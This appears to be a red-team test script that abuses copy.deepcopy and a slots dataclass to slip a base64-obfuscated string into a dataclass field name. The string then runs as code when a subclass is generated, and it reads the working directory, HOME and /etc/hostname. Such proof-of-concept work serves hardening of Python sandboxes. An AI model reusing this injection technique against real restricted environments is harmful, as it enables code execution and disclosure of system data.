# family: red team, round 52a (copy.deepcopy of a list holding a slots dataclass whose __new__, called by copy with no arguments, returns a live Field: the nested reconstruct sets slot "name" on it)
import base64
import copy
import dataclasses

CODE = "eCxwcmludChfX2ltcG9ydF9fKCdvcycpLmdldGN3ZCgpLF9faW1wb3J0X18oJ29zJykuZW52aXJvblsnSE9NRSddLG9wZW4oJy9ldGMvaG9zdG5hbWUnKS5yZWFkKCksX19pbXBvcnRfXygnb3MnKSk="


@dataclasses.dataclass
class A:
    x: int = 0


@dataclasses.dataclass(slots=True)
class Named:
    name: str
    ready: bool = False

    def __new__(cls, name="", ready=False):
        if ready:
            return object.__new__(cls)
        return dataclasses.fields(A)[0]


def main():
    items = [Named(base64.b64decode(CODE).decode(), True)]
    try:
        copy.deepcopy(items)
    except AttributeError:
        pass

    @dataclasses.dataclass(init=False, repr=False)
    class B(A):
        pass

    print(B() == B())


main()
